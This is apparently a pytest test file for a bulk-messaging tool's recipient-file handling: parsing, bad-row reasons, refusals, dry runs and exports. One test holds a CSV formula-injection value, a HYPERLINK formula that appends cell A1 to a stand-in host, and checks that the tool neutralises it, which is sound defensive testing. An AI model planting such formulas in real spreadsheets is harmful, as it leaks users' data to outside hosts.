"""Files as people have them, from the shell and from Python: who gets which message. The cases are those of real senders."""

import asyncio
import csv
import io
import json
import subprocess
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from paceline.errors import InvalidOperation, PacelineError
from paceline.operations.requests import merged
from paceline.state import connect
from paceline.state.calls import State
from paceline.testing import AsyncRecordingOutbox, RecordingOutbox
from paceline.times import microseconds
from tests.cli.conftest import PROGRAM, SENDER, Cli, Inbox, Worker, campaign_arguments, one_shard, people
from tests.support.workbooks import workbook

pytestmark = pytest.mark.usefixtures("acme")

ANA, BO, CY, DI = (f"+1555010000{number}" for number in range(1, 5))
NAN = float("nan")
Messages = list[tuple[str, str]]


def start(cli: Cli, file: Path, *options: str, template: str = "Hi {name}", name: str = "spring") -> Any:
    arguments = ["--account", "acme", "--from", SENDER, "--recipients", str(file), "--template", template]
    return cli("campaign", "start", name, *arguments, *options)


def messages(inbox: Inbox, name: str = "spring") -> Messages:
    """What a worker would send: each operation once, in the order of the upload."""
    client = connect(inbox.url)
    campaign = State(client).campaign(name)
    assert campaign
    template = json.loads(campaign.template)
    client.close()
    rows = {row["id"]: row for record in inbox.records if record.get("campaign") == name for row in record["rows"]}
    filled = [(row["to"], merged(template, json.loads(row["p"]))) for row in rows.values()]
    return [(to, " ".join(payload[part] for part in ("text", "url") if part in payload)) for to, payload in filled]


def by_python(recipients: Any, template: str = "Hi {name}", **options: Any) -> tuple[Messages, list[str]]:
    """Messages and reasons of bad rows of the same recipients, from a program."""
    outbox, reasons = RecordingOutbox(), list[str]()
    outbox.start_campaign(
        "spring",
        account="acme",
        sender=SENDER,
        template=template,
        recipients=recipients,
        on_invalid=lambda _, reason: reasons.append(reason),
        **options,
    )
    return [(message.to, message.text) for message in outbox.campaigns["spring"].messages], reasons


def bad_rows(file: Path) -> list[dict[str, str]]:
    with file.open(newline="", encoding="utf-8") as opened:
        return list(csv.DictReader(opened))


# Number of the case, file, options, who gets what, and what is wrong with the other rows.
SENT: list[tuple[str, str, bytes | str, Sequence[str], Messages, Sequence[str]]] = [
    ("4", "f.csv", f"to,name,Not_Before\n{ANA},Ana,2099-12-24T09:00:00Z\n", [], [(ANA, "Hi Ana")], []),
    ("6", "f.csv", f"to,name,Key\n{ANA},Ana,o-1\n{ANA},Ana,o-2\n", [], [(ANA, "Hi Ana"), (ANA, "Hi Ana")], []),
    ("8", "f.csv", f"to,name,key\n{BO},Bo,{ANA}\n{ANA},Ana,\n", [], [(BO, "Hi Bo"), (ANA, "Hi Ana")], []),
    (
        "10", "f.csv", f'to,name\n{ANA},"Ana\n{BO},Bo\n{CY},Cy"\n{DI},Di\n', [],
        [(BO, "Hi Bo"), (DI, "Hi Di")], ["a quote opens a cell", "a quote in this row belongs to no cell"],
    ),
    ("13", "f.jsonl", f'{{"to":"{ANA}","name":19.90}}\n', [], [(ANA, "Hi 19.90")], []),
    ("13b", "f.jsonl", f'{{"to":"{ANA}","name":123456789012345678.55}}\n', [], [(ANA, "Hi 123456789012345678.55")], []),
    ("13c", "f.jsonl", f'{{"to":"{ANA}","name":1e3}}\n', [], [(ANA, "Hi 1e3")], []),
    (
        "14", "f.jsonl",
        "".join(f'{{"to":"{ANA}","name":{value}}}\n' for value in ('{"first":"Ana"}', '["Ana","Bo"]', "true"))
        + f'{{"to":"{BO}","name":"Bo"}}\n', [], [(BO, "Hi Bo")], ["name: is neither a text nor a number"] * 3,
    ),
    (
        "15", "f.jsonl", f'{{"to":"{ANA}","name":NaN}}\n{{"to":"{ANA}","name":1E400}}\n{{"to":"{BO}","name":"Bo"}}\n', [],
        [(BO, "Hi Bo")], ["is not a JSON object"] * 2,
    ),
    (
        "15b", "f.jsonl", f'{{"to":"{ANA}","to":"{CY}","name":"x"}}\n{{"to":"{BO}","name":"Bo"}}\n', [],
        [(BO, "Hi Bo")], ['names "to" twice'],
    ),
    ("19", "f.csv", f"to,name\n{ANA},A\0na\n{BO},Bo\n", [], [(BO, "Hi Bo")], ["name: holds a control character"]),
    ("21", "f.csv", f'to,name\n{ANA},"Bob "The Builder" Smith"\n{BO},Bo\n', [], [(BO, "Hi Bo")], ["a quote closes"]),
    ("24", "f.csv", f'to,name\n{ANA},"Ana" \n{BO},Bo\n', [], [(ANA, "Hi Ana"), (BO, "Hi Bo")], []),
    ("26", "f.csv", "to,name\n+5215512345678,Ana\n", [], [("+5215512345678", "Hi Ana")], []),
    ("30", "f.csv", f"\ufeff\ufeffto,name\n{ANA},Ana\n", [], [(ANA, "Hi Ana")], []),
    ("31", "f.csv", f"to;name\n{ANA};Ana\n", [], [(ANA, "Hi Ana")], []),
    ("31b", "f.csv", f"sep=;\r\nto;name\r\n{ANA};Ana\r\n", [], [(ANA, "Hi Ana")], []),
    ("31c", "f.tsv", f"to\tname\n{ANA}\tAna\n", ["--delimiter", "tab"], [(ANA, "Hi Ana")], []),
    ("32", "f.csv", f"To,name\n{ANA},Ana\n", [], [(ANA, "Hi Ana")], []),
    ("32b", "f.csv", f"Phone Number,name\n{ANA},Ana\n", ["--to-column", "phone number"], [(ANA, "Hi Ana")], []),
    ("33", "f.csv", f"to, Name\n{ANA},Ana\n", [], [(ANA, "Hi Ana")], []),
    ("35", "f.JSONL", f'{{"to":"{ANA}","name":"Ana"}}\n', [], [(ANA, "Hi Ana")], []),
    ("35b", "f.json", f'[\n {{"to": "{ANA}",\n  "name": "Ana"}}\n]\n', [], [(ANA, "Hi Ana")], []),
    ("36", "f.csv", f"to,name\n{ANA},José\n".encode("utf-16"), [], [(ANA, "Hi José")], []),
    ("36b", "f.xlsx", workbook(A=[["to", "name"], [ANA, "Ana"]]), [], [(ANA, "Hi Ana")], []),
    ("36c", "f.csv", f"to,name\n{ANA},José\n".encode("cp1252"), ["--encoding", "windows-1252"], [(ANA, "Hi José")], []),
    ("37", "f.csv", f"to,name,city\n{ANA},Ana,\n" + ",,\n" * 52 + " , ,\n", [], [(ANA, "Hi Ana")], []),
    ("38", "f.csv", f"to,name\n{ANA},Ana,\n", [], [(ANA, "Hi Ana")], []),
    ("39", "f.csv", f"to,name\n,Ana\n{BO},Bo\n", [], [(BO, "Hi Bo")], ["to: is empty"]),
    (
        "40", "f.csv", "to,name\n(11) 98765-4321,Ana\n1.5555E+11,Bo\n", ["--default-country", "br"],
        [("+5511987654321", "Hi Ana")], ["to: is not a phone number"],
    ),
    (
        "41", "f.csv", f"to,name\n+4407700900123,A\n+4901512345678,B\n+54111523456789,C\n{BO},Bo\n", [], [(BO, "Hi Bo")],
        ["to: is not a phone number"] * 3,
    ),
    (
        "46", "f.csv", f"to,name,valid_until\n{ANA},Ana,2020-11-28T12:00:00Z\n{BO},Bo,\n", [], [(BO, "Hi Bo")],
        ["valid_until: has passed"],
    ),
]  # fmt: skip


@pytest.mark.parametrize(
    ("file", "content", "options", "sent", "reasons"), [case[1:] for case in SENT], ids=[c[0] for c in SENT]
)
def test_who_gets_what(
    cli: Cli,
    inbox: Inbox,
    tmp_path: Path,
    file: str,
    content: bytes | str,
    options: list[str],
    sent: Messages,
    reasons: list[str],
) -> None:
    """From the shell, and from Python with the path of the file: the same messages, the same bad rows."""
    path = tmp_path / file
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    answer = start(cli, path, *options)
    assert answer.code == 0, answer.err
    assert sent == messages(inbox)
    invalid = tmp_path / "spring.invalid.csv"
    told = [row["reason"] for row in bad_rows(invalid)] if invalid.exists() else []
    assert len(reasons) == len(told)
    assert all(reason.startswith(words) for reason, words in zip(told, reasons, strict=True)), told
    if not {"--delimiter", "--encoding"} & set(options):
        given = {"--to-column": "to_column", "--default-country": "default_country"}
        arguments = {given[option]: value for option, value in zip(options[::2], options[1::2], strict=True)}
        assert (sent, told) == by_python(path, **arguments)


PYTHON: list[tuple[str, list[dict[str, Any]], Messages, list[str]]] = [
    ("1", [{"to": to, "name": "x", "key": NAN} for to in (ANA, BO, CY)], [(to, "Hi x") for to in (ANA, BO, CY)], []),
    ("2", [{"to": ANA, "name": NAN}, {"to": BO, "name": "Bo"}], [(BO, "Hi Bo")], ["name: the template needs this column"]),
    ("4", [{"to": ANA, "name": "Ana", "Not_Before": "2099-12-24T09:00:00Z"}], [(ANA, "Hi Ana")], []),
    ("6", [{"to": ANA, "name": "Ana", "Key": key} for key in ("o-1", "o-2")], [(ANA, "Hi Ana")] * 2, []),
    ("8", [{"to": BO, "name": "Bo", "key": ANA}, {"to": ANA, "name": "Ana"}], [(BO, "Hi Bo"), (ANA, "Hi Ana")], []),
    ("13", [{"to": ANA, "name": Decimal("19.90")}], [(ANA, "Hi 19.90")], []),
    (
        "14", [{"to": ANA, "name": value} for value in ({"first": "Ana"}, ["Ana", "Bo"], True)] + [{"to": BO, "name": "Bo"}],
        [(BO, "Hi Bo")], ["name: is neither a text nor a number"] * 3,
    ),
    ("26", [{"to": "+5215512345678", "name": "Ana"}], [("+5215512345678", "Hi Ana")], []),
    ("33", [{"to": ANA, "Name": "Ana"}], [(ANA, "Hi Ana")], []),
]  # fmt: skip


@pytest.mark.parametrize(("rows", "sent", "reasons"), [case[1:] for case in PYTHON], ids=[case[0] for case in PYTHON])
def test_who_gets_what_from_python(rows: list[dict[str, Any]], sent: Messages, reasons: list[str]) -> None:
    """Rows of a program by the rules of files."""
    assert (sent, reasons) == by_python(rows)


# Number of the case, file, template, options, and the words of the refusal: nothing is written.
REFUSED: list[tuple[str, str, bytes | str, str, Sequence[str], str]] = [
    ("9", "f.csv", f"to,name\n{ANA},Ana\n", "Hi {{name}}", [], "--template: {{name}} would be sent as {name}: write {name}"),
    ("9b", "f.csv", f"to,name\n{ANA},Ana\n", "Hi {{ name }}", [], "--template: {{name}} would be sent"),
    ("11", "f.csv", f"to,name,to\n{ANA},Ana,{BO}\n", "Hi", [], '2 columns mean "to"'),
    ("4", "f.csv", f"to,Not_Befor\n{ANA},2099-12-24T09:00:00Z\n", "Hi", [], 'looks like "not_before"'),
    ("4b", "f.jsonl", f'{{"to":"{ANA}","Valid_Til":"x"}}\n', "Hi", [], 'looks like "valid_until"'),
    ("16", "f.csv", f"to,code\n{ANA},1\n", "Hi", ["--url", "https://{code}.example.com/1.jpg"], "after the host"),
    ("20", "f.csv", b"to,name\n" + b"+15550100001,a\n" * 1500 + b"+15550100001,Jos\xe9\n", "Hi", [], '"José": if that is correct'),
    ("23", "f.csv", f"to,name\n{ANA},a\n", "Hi {city}", [], 'no column "city", which the template names (found: to, name)'),
    ("32", "f.csv", f"Phone Number,name\n{ANA},Ana\n", "Hi", [], "(found: Phone Number, name). Rename the column"),
    ("49", "f.csv", f"to\n{ANA}\n", "", [], "--template: is empty"),
    ("49b", "f.csv", f"to\n{ANA}\n", " \u200b", [], "--template: is empty"),
    ("36", "f.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Hi", [], "old version of Excel"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("file", "content", "template", "options", "words"), [case[1:] for case in REFUSED], ids=[c[0] for c in REFUSED]
)
def test_what_is_refused_before_anything_is_written(
    cli: Cli, tmp_path: Path, file: str, content: bytes | str, template: str, options: list[str], words: str
) -> None:
    """Exit 2 and one sentence that says what to do; from Python the same words."""
    path = tmp_path / file
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    for more in ([], ["--dry-run"]):
        assert words in start(cli, path, *options, *more, template=template).refusal(2)
    assert cli("campaign", "list", "--json").json == []
    assert [path] == list(tmp_path.iterdir())
    url = dict(zip(options[::2], options[1::2], strict=True)).get("--url")
    with pytest.raises(InvalidOperation) as refusal:
        by_python(path, template, url=url)
    assert words.removeprefix("--") in str(refusal.value)


def test_a_column_may_be_ignored(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """Who knows that it means nothing says so."""
    (tmp_path / "f.csv").write_text(f"to,name,keys\n{ANA},Ana,x\n")
    assert start(cli, tmp_path / "f.csv", "--ignore-column", "Keys").code == 0
    assert [(ANA, "Hi Ana")] == messages(inbox)
    assert [(ANA, "Hi Ana")] == by_python([{"to": ANA, "name": "Ana", "keys": 1}], ignore_columns=["keys"])[0]


@pytest.mark.parametrize(
    ("expected", "url"),
    [
        ("https://cdn.example.com/a%20b.jpg", "https://cdn.example.com/{code}.jpg"),
        ("https://cdn.example.com/x?c=a%20b", "https://cdn.example.com/x?c={code}"),
        ("https://cdn.example.com/1.jpg", "{image}"),
    ],
)
def test_an_attachment_of_its_own_for_each(cli: Cli, inbox: Inbox, tmp_path: Path, expected: str, url: str) -> None:
    """Placeholders of --url are filled in; an address that cannot be is a bad row."""
    (tmp_path / "f.csv").write_text(f"to,code,image\n{ANA},a b,https://cdn.example.com/1.jpg\n{BO},,\n")
    assert start(cli, tmp_path / "f.csv", "--url", url, template="Look").code == 0
    assert [(ANA, f"Look {expected}")] == messages(inbox)
    assert "the address needs it" in bad_rows(tmp_path / "spring.invalid.csv")[0]["reason"]


def test_a_template_with_defaults(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """And with columns that have blanks and accents."""
    (tmp_path / "f.csv").write_text(f"to,First Name,año\n{ANA},Ana,1990\n{BO}, ,2000\n")
    assert start(cli, tmp_path / "f.csv", template="Hi {First Name|there}, {año}").code == 0
    assert [(ANA, "Hi Ana, 1990"), (BO, "Hi there, 2000")] == messages(inbox)


def test_a_text_without_anything_to_be_seen_is_a_bad_row(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """Blanks and invisible marks are no message."""
    (tmp_path / "f.csv").write_text(f"to,name\n{ANA},  \n{BO},\u200b\n{CY},Cy\n")
    assert start(cli, tmp_path / "f.csv", template="{name}").code == 0
    assert [(CY, "Cy")] == messages(inbox)
    assert {"text: would be empty"} == {row["reason"] for row in bad_rows(tmp_path / "spring.invalid.csv")}


def test_a_dry_run_shows_what_recipients_would_read(cli: Cli, tmp_path: Path) -> None:
    """Three messages, empty values, and numbers that are likely one person's; nothing of it stops it."""
    numbers = ["+5511987654321", "+551187654321", "+5215512345678", "+525512345678", ANA]
    (tmp_path / "f.csv").write_text(
        "to,name\n" + "".join(f"{number},{'' if number == ANA else 'x'}\n" for number in numbers)
    )
    answer = start(cli, tmp_path / "f.csv", "--dry-run", template="Hi {name},\\nsale!")
    assert answer.code == 0
    assert "To +55*********21: Hi x,\\nsale!" in answer.out
    assert answer.out.count("\nTo ") == 3
    assert "name is empty for 1 recipient: {name|something} would replace it" in answer.out
    assert "2 numbers may be another form of an earlier number" in answer.out
    assert "a backslash and an n" in answer.out
    told = start(cli, tmp_path / "f.csv", "--dry-run", "--json").json
    assert (2, {"name": 1}, {"to": "+55*********21", "text": "Hi x", "url": None}) == (
        told["twins"], told["empty"], told["samples"][0],
    )  # fmt: skip


def test_the_end_of_a_validity_is_told_as_it_is(cli: Cli, tmp_path: Path) -> None:
    """When all rows have the same end of their own, it is that one."""
    lines = [f"+1555010{number:04d},2099-01-01T00:00:00Z\n" for number in range(5)]
    (tmp_path / "f.csv").write_text("to,valid_until\n" + "".join(lines))
    answer = start(cli, tmp_path / "f.csv", "--dry-run", "--rate", "1/9999 days", template="Hi")
    assert "before their turn, which comes after 2099-01-01" in " ".join(answer.out.split())


def test_a_campaign_may_begin_later(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """`--not-before` holds for rows that say nothing else, and puts off their end."""
    file = people(tmp_path / "people.csv", 1)
    assert "--not-before: " in start(cli, file, "--not-before", "tomorrow").refusal(2)
    assert "must be later than" in start(
        cli, file, "--not-before", "2099-01-02T00:00:00Z", "--valid-until", "2099-01-01T00:00:00Z"
    ).refusal(2)
    assert start(cli, file, "--not-before", "2099-01-02T09:00:00+01:00").code == 0
    [row] = inbox.records[0]["rows"]
    begins = datetime(2099, 1, 2, 8, tzinfo=UTC)
    assert (str(microseconds(begins)), str(microseconds(begins + timedelta(days=1)))) == (row["nb"], row["vu"])
    planned = start(cli, file, "--not-before", "2099-01-02T09:00:00+01:00", "--dry-run", "--json", name="other").json
    assert planned["starts_at"].startswith("2099-01-02T08:00:0")


def test_a_loop_reads_files_too(tmp_path: Path) -> None:
    """An asynchronous outbox takes a path like the other one, with the same options."""
    (tmp_path / "f.csv").write_text("Phone,name\n(11) 98765-4321,Ana\n")

    async def upload() -> Messages:
        outbox = AsyncRecordingOutbox()
        await outbox.start_campaign(
            "spring",
            account="acme",
            sender=SENDER,
            template="Hi {name}",
            recipients=tmp_path / "f.csv",
            to_column="phone",
            default_country="BR",
        )
        return [(message.to, message.text) for message in outbox.campaigns["spring"].messages]

    assert [("+5511987654321", "Hi Ana")] == asyncio.run(upload())


def test_bad_rows_are_whole_and_harmless_and_can_be_corrected(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """No spreadsheet computes them; corrected and uploaded under the same name they are sent, and nobody else twice."""
    path, invalid = tmp_path / "f.csv", tmp_path / "spring.invalid.csv"
    formula = '"=HYPERLINK(""http://x.example/?""&A1)"'
    path.write_text(f"to,name,city\n{ANA},Ana,Graz\n{formula},Bo,@SUM(1+1)\n123,'=x,\n")
    assert start(cli, path).code == 0
    assert ['\'=HYPERLINK("http://x.example/?"&A1)', "123"] == [row["to"] for row in bad_rows(invalid)]
    assert ["'@SUM(1+1)", ""] == [row["city"] for row in bad_rows(invalid)]
    corrected = invalid.read_text().replace('\'=HYPERLINK(""http://x.example/?""&A1)', BO).replace("123", CY)
    again = tmp_path / "corrected.csv"
    again.write_text(corrected)
    assert start(cli, again).code == 0
    assert [(ANA, "Hi Ana"), (BO, "Hi Bo"), (CY, "Hi '=x")] == messages(inbox)
    assert not invalid.exists()  # the last upload had no bad rows


def test_standard_input_and_pipes(cli: Cli, inbox: Inbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Good rows leave; the bad ones are in the folder where the command was given."""
    monkeypatch.chdir(tmp_path)
    content = f"to,name\n{ANA},Ana\nbad,Bo\n{BO},Cy\n"
    answer = cli(*campaign_arguments(Path("-")), stdin=content)
    assert answer.code == 0
    assert [(ANA, "Hi Ana"), (BO, "Hi Cy")] == messages(inbox)
    assert ["bad"] == [row["to"] for row in bad_rows(tmp_path / "spring.invalid.csv")]
    done = subprocess.run(
        ["bash", "-c", f"{' '.join([*PROGRAM, *map(repr, campaign_arguments(Path('X'), name='piped'))])}".replace("'X'", "<(cat)")],
        input=content, capture_output=True, text=True, check=False, timeout=200,
    )  # fmt: skip
    assert (0, "") == (done.returncode, done.stderr)
    assert (tmp_path / "piped.invalid.csv").exists()


@pytest.mark.parametrize("place", ["missing/bad.csv", "folder"])
def test_where_bad_rows_cannot_go_is_found_first(cli: Cli, tmp_path: Path, place: str) -> None:
    """Before anything is written."""
    (tmp_path / "folder").mkdir()
    file = people(tmp_path / "people.csv", 1)
    assert "cannot be written" in start(cli, file, "--invalid", str(tmp_path / place)).refusal(2)
    assert cli("campaign", "list", "--json").json == []


def outcomes(cli: Cli, name: str = "spring", *options: str) -> list[dict[str, str]]:
    answer = cli("outcomes", "--campaign", name, "--format", "csv", "--show-numbers", *options)
    assert answer.code == 0, answer.err
    return list(csv.DictReader(io.StringIO(answer.out)))


def settle(worker: Worker) -> None:
    worker.accept_all()
    for _ in range(20):
        for hint in worker.grant():
            worker.settle(hint, verb="finish", outcome="accepted", code="202")


@pytest.mark.usefixtures("quick")
def test_an_export_goes_back_in_without_sending_twice(cli: Cli, tmp_path: Path, worker: Worker) -> None:
    """It carries the keys; without them it is refused, for everybody would have the message twice."""
    path, export = tmp_path / "f.csv", tmp_path / "x.csv"
    path.write_text(f"to,key\n{ANA},cust-1\n{BO},cust-2\n")
    arguments = [
        "campaign",
        "start",
        "spring",
        "--account",
        "quick",
        "--from",
        SENDER,
        "--template",
        "Sale",
        "--recipients",
    ]
    assert cli(*arguments, str(path)).code == 0
    settle(worker)
    assert {(ANA, "cust-1", "accepted"), (BO, "cust-2", "accepted")} == {
        (row["to"], row["key"], row["outcome"]) for row in outcomes(cli)
    }
    assert cli("outcomes", "--campaign", "spring", "--format", "csv", "--output", str(export)).code == 0
    assert cli(*arguments, str(export)).code == 0
    settle(worker)
    seen = cli("campaign", "status", "spring", "--json").json
    assert (2, 2) == (seen["duplicates"], seen["total"])
    path.write_text(f"to\n{ANA}\n{BO}\n")
    assert "add the column `key`" in cli(*arguments, str(path)).refusal()
    assert "add the column `key`" in cli(*arguments, str(path), "--dry-run").out
    outbox = RecordingOutbox()
    outbox.start_campaign("s", account="acme", sender=SENDER, template="Sale", recipients=[{"to": ANA, "key": "1"}])
    with pytest.raises(PacelineError, match="add the column `key`"):
        outbox.start_campaign("s", account="acme", sender=SENDER, template="Sale", recipients=[{"to": ANA}])


@one_shard
@pytest.mark.usefixtures("quick")
def test_after_a_cancellation_the_export_says_who_was_not_reached(cli: Cli, tmp_path: Path, worker: Worker) -> None:
    """Whether they waited in their lane or had not come yet; the file goes into another campaign."""
    path = tmp_path / "f.csv"
    path.write_text("to,key\n" + "".join(f"+1555010{number:04d},c-{number}\n" for number in range(600)))
    arguments = [
        "campaign",
        "start",
        "spring",
        "--account",
        "quick",
        "--from",
        SENDER,
        "--template",
        "Sale",
        "--recipients",
    ]
    assert cli(*arguments, str(path)).code == 0
    worker.state.accept(worker.state.overdue(0.0, 1))  # the first chunk; two are still in the inbox
    [hint, *_] = worker.grant()
    worker.settle(hint, verb="finish", outcome="accepted", code="202")
    assert cli("campaign", "cancel", "spring").code == 0
    settle(worker)
    rows = outcomes(cli)
    assert {("accepted", 1), ("cancelled", 599)} == {
        (outcome, sum(row["outcome"] == outcome for row in rows)) for outcome in ("accepted", "cancelled")
    }
    assert (
        600 == len({row["to"] for row in rows}) == len({row["key"] for row in rows}) == len({row["id"] for row in rows})
    )
    rest = tmp_path / "rest.csv"
    rest.write_text(
        cli("outcomes", "--campaign", "spring", "--format", "csv", "--outcome", "cancelled", "--show-numbers").out
    )
    told = cli(*(part if part != "spring" else "summer" for part in arguments), str(rest), "--json").json
    assert (599, 0) == (told["written"], told["invalid"])
    assert cli("audit").code == 0


def test_the_words_of_numbers_are_the_same_at_every_door(cli: Cli, inbox: Inbox, tmp_path: Path) -> None:
    """Single sends, groups, number checks, senders and files: what one takes all take, and the reason is the same."""
    taken, reason = "+5215512345678", "leave out the 0 after +44"
    refused = "+4407700900123"
    file = tmp_path / "f.csv"
    doors = (
        ("send", "--account", "acme", "--from", SENDER, "--to", "N", "--text", "x"),
        ("send", "--account", "acme", "--from", "N", "--to", SENDER, "--text", "x"),
        ("sms", "--account", "acme", "--from", SENDER, "--to", "N", "--text", "x"),
        ("template", "TMP11111111-2222-4333-8444-555555555555", "--account", "acme", "--from", SENDER, "--to", "N"),
        ("number", "check", "N", "--account", "acme", "--from", SENDER),
        ("group", "create", "x", "--account", "acme", "--from", SENDER, "--participant", "N"),
        ("accounts", "add", "other", "--limit", "10/minute", "--no-info", "--sender", "N"),
    )
    for door in doors:
        assert reason in cli(*(refused if word == "N" else word for word in door), stdin="key").refusal(2), door
        assert cli(*(taken if word == "N" else word for word in door), stdin="key").code == 0, door
    file.write_text(f"to\n{taken}\n{refused}\n")
    assert start(cli, file, template="Hi").code == 0
    assert [taken] == [to for to, _ in messages(inbox)]
    assert reason in bad_rows(tmp_path / "spring.invalid.csv")[0]["reason"]
